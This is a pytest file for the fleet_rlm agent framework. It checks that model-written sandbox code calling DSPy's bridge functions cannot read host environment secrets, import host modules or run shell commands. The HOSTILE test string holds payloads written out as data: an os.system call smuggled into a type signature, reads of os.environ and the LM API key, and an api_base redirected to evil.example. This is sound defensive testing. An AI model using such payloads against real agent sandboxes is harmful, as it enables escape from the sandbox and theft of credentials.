"""Bridged tools: sandbox code cannot make the host resolve names, import modules or hand back secrets.

DSPy's sandbox facade (``__dspy_construct__`` / ``__dspy_call__``) is in every sandbox of a turn.
These tests drive it with hostile signatures from model-written code, end to end through
``fleet run`` (and, to look at the host's ``sys.modules``, through the engine in this process).
A host canary in the environment and the model API key must never show up in the events, the
answer, the workspace or the log; no module may be imported on the host.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from fleet_rlm.engine.modes import select
from fleet_rlm.engine.modes.context import RouteContext
from fleet_rlm.engine.modes.flex import run_flex
from fleet_rlm.engine.turn import TurnOutcome, TurnRequest, build_turn
from fleet_rlm.models.scripted import Reply, ScriptedModelServer, fields_reply, rlm_step
from fleet_rlm.protocol.events import Event, EventType
from fleet_rlm.testing.cli import run_fleet, scripted_env
from fleet_rlm.testing.settings import scripted_settings

CANARY_VAR = "FLEET_TEST_HOST_CANARY"
PROBE = "fleet_bridge_probe"
REFUSED = "refused by Fleet: "


@dataclass
class FleetRun:
    """One ``fleet run --json`` and everything it left behind."""

    returncode: int
    stdout: str
    stderr: str
    home: Path
    workspace: Path

    @property
    def events(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.stdout.splitlines()]

    @property
    def answer(self) -> str:
        last = self.events[-1]
        assert last["type"] == "turn.completed", (last, self.stderr)
        return str(last["data"]["answer"])

    def tool_errors(self) -> list[str]:
        return [str(e["data"]["error"]) for e in self.events if e["type"] == "tool.finished" and e["data"]["error"]]

    def everything(self) -> str:
        """Events, terminal output, the log and every workspace file, as one text to search."""
        log = self.home / "logs" / "fleet.log"
        assert log.is_file()
        parts = [self.stdout, self.stderr, log.read_text(errors="replace")]
        parts += [p.read_text(errors="replace") for p in sorted(self.workspace.rglob("*")) if p.is_file()]
        return "\n".join(parts)


@dataclass
class Host:
    """The fleet process's secrets and a module with import side effects on its ``sys.path``."""

    tmp: Path
    canary: str
    api_key: str
    probe_dir: Path
    import_marker: Path
    shell_marker: Path

    def env(self, server: ScriptedModelServer) -> dict[str, str]:
        env = scripted_env(server, lm_num_retries="0")
        env.update({"FLEET_LM_API_KEY": self.api_key, "PYTHONPATH": str(self.probe_dir), CANARY_VAR: self.canary})
        return env

    def run(self, server: ScriptedModelServer, task: str) -> FleetRun:
        workspace = self.tmp / "ws"
        args = ["run", task, "--json", "--workspace", str(workspace)]
        result = run_fleet(args, self.tmp, self.env(server), timeout=120)
        return FleetRun(result.returncode, result.stdout, result.stderr, self.tmp / "home", workspace)

    def assert_nothing_leaked(self, run: FleetRun) -> None:
        text = run.everything()
        assert self.canary not in text
        assert self.api_key not in text
        assert not self.import_marker.exists(), "the probe module was imported on the host"
        assert not self.shell_marker.exists(), "a shell command ran on the host"


@pytest.fixture
def host(tmp_path: Path) -> Host:
    token = uuid.uuid4().hex
    probe_dir = tmp_path / "host-path"
    probe_dir.mkdir()
    import_marker = tmp_path / "probe-imported"
    (probe_dir / f"{PROBE}.py").write_text(
        f"import pathlib\n\npathlib.Path({str(import_marker)!r}).write_text('imported')\n\n\nclass Probe:\n    pass\n"
    )
    return Host(
        tmp=tmp_path,
        canary=f"host-canary-{token}",
        api_key=f"sk-fleet-test-{token[::-1]}",
        probe_dir=probe_dir,
        import_marker=import_marker,
        shell_marker=tmp_path / "pwned",
    )


HOSTILE = """
import dspy, json
attempts = {
    "environ": lambda: __dspy_construct__("Predict", "x: os.environ -> y", "p1", {}),
    "lm_kwargs": lambda: __dspy_construct__("Predict", "x: dspy.settings.lm.kwargs -> y", "p2", {}),
    "system": lambda: __dspy_construct__("Predict", "x: __import__('os').system('touch SHELL_MARKER') -> y", "p3", {}),
    "import": lambda: __dspy_construct__("Predict", "x: PROBE -> y", "p4", {}),
    "import_attribute": lambda: __dspy_construct__("Predict", "x: list[PROBE.Probe] -> y", "p5", {}),
    "signature_marker": lambda: __dspy_construct__(
        kind="Predict", signature=dspy.Signature("x: os.environ -> y", "steal"), attr_name="p6", kwargs={}
    ),
    "shim": lambda: dspy.ChainOfThought("x: dspy.settings -> y")(x="1"),
    "media_type": lambda: __dspy_construct__("Predict", "x: Image -> y", "p7", {}),
    "rlm_kind": lambda: __dspy_construct__("RLM", "x -> y", "p8", {}),
    "react_with_tools": lambda: __dspy_construct__("ReActV2", "x -> y", "p9", {"tools": [{"__dspy_tool__": "llm_query"}]}),
    "lm_option": lambda: __dspy_construct__("Predict", "x -> y", "p10", {"lm": {"api_base": "http://evil.example"}}),
    "call_signature": lambda: __dspy_call__("ok", {"x": "1", "signature": "x: os.environ -> y"}),
    "call_config": lambda: __dspy_call__("ok", {"x": "1", "config": {"api_base": "http://evil.example"}}),
    "unknown_handle": lambda: __dspy_call__("never_built", {}),
}
__dspy_construct__("Predict", "x -> y", "ok", {})
results = {}
for name, attempt in attempts.items():
    try:
        attempt()
        results[name] = "ALLOWED"
    except Exception as exc:
        results[name] = str(exc)
open("artifacts/results.json", "w").write(json.dumps(results, indent=1))
SUBMIT(answer=json.dumps(results))
"""


def hostile_code(host: Host) -> str:
    return HOSTILE.replace("SHELL_MARKER", str(host.shell_marker)).replace("PROBE", PROBE)


def test_the_probe_module_would_run_on_the_host_if_imported(host: Host, model_server: ScriptedModelServer) -> None:
    """The attack tests below would see an import: the module is on the fleet process's path."""
    env = {**os.environ, **host.env(model_server)}
    subprocess.run([sys.executable, "-c", f"import {PROBE}"], env=env, check=True, timeout=60)
    assert host.import_marker.read_text() == "imported"


def test_hostile_signatures_are_refused_and_leak_nothing(host: Host, model_server: ScriptedModelServer) -> None:
    model_server.script("root", rlm_step("Probe the bridge.", hostile_code(host)))
    run = host.run(model_server, "Probe the bridge")

    assert run.returncode == 0, run.stderr
    results = json.loads(run.answer)
    assert {name: text[: len(REFUSED)] for name, text in results.items()} == dict.fromkeys(results, REFUSED)
    assert "type 'os.environ' is not allowed (dotted names are not resolved)" in results["environ"]
    assert "type 'dspy.settings.lm.kwargs' is not allowed" in results["lm_kwargs"]
    assert f"type {PROBE!r} is not allowed" in results["import"]
    assert "dspy.RLM is not available in Fleet's sandbox" in results["rlm_kind"]
    assert "spawn_agent" in results["rlm_kind"]
    assert "dspy.ReActV2 is not available" in results["react_with_tools"]
    assert "does not take option 'lm'" in results["lm_option"]
    assert "has no input(s) 'signature'" in results["call_signature"]
    assert "has no input(s) 'config'" in results["call_config"]
    assert "no predictor named 'never_built'" in results["unknown_handle"]
    # What the sandbox was told is what the events report, and nothing reached the model.
    assert sorted(run.tool_errors()) == sorted(results.values())
    assert json.loads((run.workspace / "artifacts" / "results.json").read_text()) == results
    assert model_server.model.requests_for("sub") == []
    host.assert_nothing_leaked(run)


def test_a_child_agents_sandbox_is_guarded_too(host: Host, model_server: ScriptedModelServer) -> None:
    parent = "r = spawn_agent('CHILD probe')\nSUBMIT(answer=str(r['answer']))"
    child = (
        "try:\n"
        "    __dspy_construct__('Predict', 'x: os.environ -> y', 'p', {})\n"
        "    SUBMIT(answer='ALLOWED')\n"
        "except Exception as exc:\n"
        "    SUBMIT(answer=str(exc))"
    )
    model_server.script_for_task("root", "PARENT", rlm_step("Delegate.", parent))
    model_server.script_for_task("root", "CHILD probe", rlm_step("Probe.", child))
    run = host.run(model_server, "PARENT probe through a child")

    assert run.returncode == 0, run.stderr
    assert run.answer.startswith(REFUSED + "dspy.Predict signature: field 'x': type 'os.environ' is not allowed")
    host.assert_nothing_leaked(run)


def test_a_model_error_echoing_the_api_key_reaches_the_sandbox_scrubbed(
    host: Host, model_server: ScriptedModelServer
) -> None:
    code = (
        "import dspy\n"
        "try:\n"
        "    dspy.Predict('question -> answer')(question='?')\n"
        "    SUBMIT(answer='ALLOWED')\n"
        "except Exception as exc:\n"
        "    SUBMIT(answer=str(exc))"
    )
    model_server.script("root", rlm_step("Ask a sub-agent.", code))
    echo = f"Incorrect API key provided: {host.api_key}. Host {host.canary} at {model_server.base_url}"
    model_server.script("sub", Reply(status=401, text=echo))
    run = host.run(model_server, "Ask")

    assert run.returncode == 0, run.stderr
    assert run.answer.startswith("CodeInterpreterError: [dspy bridge lm-error #1] LMAuthError: ")
    # The endpoint's URL is in the fleet process's environment (FLEET_LM_BASE_URL), so it goes too.
    assert "Incorrect API key provided: [redacted]. Host [redacted] at [redacted]" in run.answer
    host.assert_nothing_leaked(run)


TYPED = """
import dspy, json
judge = dspy.ChainOfThought(
    "text: str, limit: int, tags: list[str], counts: dict[str, int] -> "
    "verdict: Literal['yes', 'no'], total: int, names: list[str], scores: dict[str, int]"
)
r = judge(text="abc", limit=3, tags=["a", "b"], counts={"a": 1})
SUBMIT(answer=json.dumps({"verdict": r.verdict, "total": r.total, "names": r.names, "scores": r.scores}))
"""


def test_a_typed_sub_predictor_still_works(host: Host, model_server: ScriptedModelServer) -> None:
    model_server.script("root", rlm_step("Judge.", TYPED))
    model_server.script(
        "sub",
        fields_reply(reasoning="Counted.", verdict="yes", total="7", names='["x", "y"]', scores='{"x": 1, "y": 6}'),
    )
    run = host.run(model_server, "Judge")

    assert run.returncode == 0, run.stderr
    assert json.loads(run.answer) == {"verdict": "yes", "total": 7, "names": ["x", "y"], "scores": {"x": 1, "y": 6}}
    (request,) = model_server.model.requests_for("sub")
    prompt = "\n".join(str(m["content"]) for m in request["messages"])
    assert "limit" in prompt and "verdict" in prompt
    assert run.tool_errors() == []
    host.assert_nothing_leaked(run)


# -- in this process: the host's own sys.modules ---------------------------------------------------


def run_turn(server: ScriptedModelServer, home: Path, workspace: Path, mode: str) -> tuple[TurnOutcome, list[Event]]:
    events: list[Event] = []
    settings = scripted_settings(server, home, mode=mode)
    turn = build_turn(settings, TurnRequest(task="Probe", workspace=workspace), events.append)
    return asyncio.run(turn.run()), events


@pytest.fixture
def probe_on_path(host: Host, monkeypatch: pytest.MonkeyPatch) -> str:
    """The probe module, importable in this process, not yet imported."""
    monkeypatch.syspath_prepend(str(host.probe_dir))
    monkeypatch.delitem(sys.modules, PROBE, raising=False)
    return PROBE


def test_rlm_code_cannot_import_a_module_into_the_host_process(
    host: Host, probe_on_path: str, model_server: ScriptedModelServer, home: Path
) -> None:
    model_server.script("root", rlm_step("Probe the bridge.", hostile_code(host)))
    outcome, events = run_turn(model_server, home, host.tmp / "ws", "rlm")

    assert probe_on_path not in sys.modules
    assert not host.import_marker.exists()
    assert not host.shell_marker.exists()
    assert outcome.status == "completed", outcome.error
    assert "ALLOWED" not in str(outcome.answer)
    errors = [str(e.data["error"]) for e in events if e.type is EventType.TOOL_FINISHED and e.data["error"]]
    assert len(errors) == 14 and all(error.startswith(REFUSED) for error in errors)


FLEX_PROBE = """
class Probe(dspy.Module):
    def __init__(self):
        super().__init__()
        self.steal = dspy.Predict("x: PROBE.Probe, y: os.environ -> z")

    def forward(self, task, workspace, history):
        return dspy.Prediction(answer="ALLOWED")
"""

FLEX_TYPED = """
class Typed(dspy.Module):
    def __init__(self):
        super().__init__()
        self.judge = dspy.Predict("task: str, limit: int -> verdict: Literal['yes', 'no'], tags: list[str], counts: dict[str, int]")

    def forward(self, task, workspace, history):
        r = self.judge(task=task, limit=2)
        return dspy.Prediction(answer=f"{r.verdict} {sorted(r.tags)} {r.counts['a'] + 1}")
"""


def test_a_flex_module_cannot_import_a_module_into_the_host_process(
    host: Host, probe_on_path: str, model_server: ScriptedModelServer, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    module = FLEX_PROBE.replace("PROBE", probe_on_path)

    def probe_flex(ctx: RouteContext) -> str:
        return run_flex(ctx, module)

    monkeypatch.setitem(select.ROUTES, "flex", probe_flex)
    outcome, events = run_turn(model_server, home, host.tmp / "ws", "flex")

    assert outcome.status == "failed"
    assert outcome.error is not None
    assert "refused by Fleet: dspy.Predict signature: field 'x'" in outcome.error
    assert probe_on_path not in sys.modules
    assert not host.import_marker.exists()
    assert [e.data["name"] for e in events if e.type is EventType.TOOL_FINISHED] == ["__dspy_construct__"]


def test_a_typed_flex_module_still_works(
    host: Host, model_server: ScriptedModelServer, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(select.ROUTES, "flex", lambda ctx: run_flex(ctx, FLEX_TYPED))
    model_server.script("root", fields_reply(verdict="no", tags='["b", "a"]', counts='{"a": 41}'))
    outcome, events = run_turn(model_server, home, host.tmp / "ws", "flex")

    assert outcome.status == "completed", outcome.error
    assert outcome.answer == "no ['a', 'b'] 42"
    assert all(e.data["error"] is None for e in events if e.type is EventType.TOOL_FINISHED)
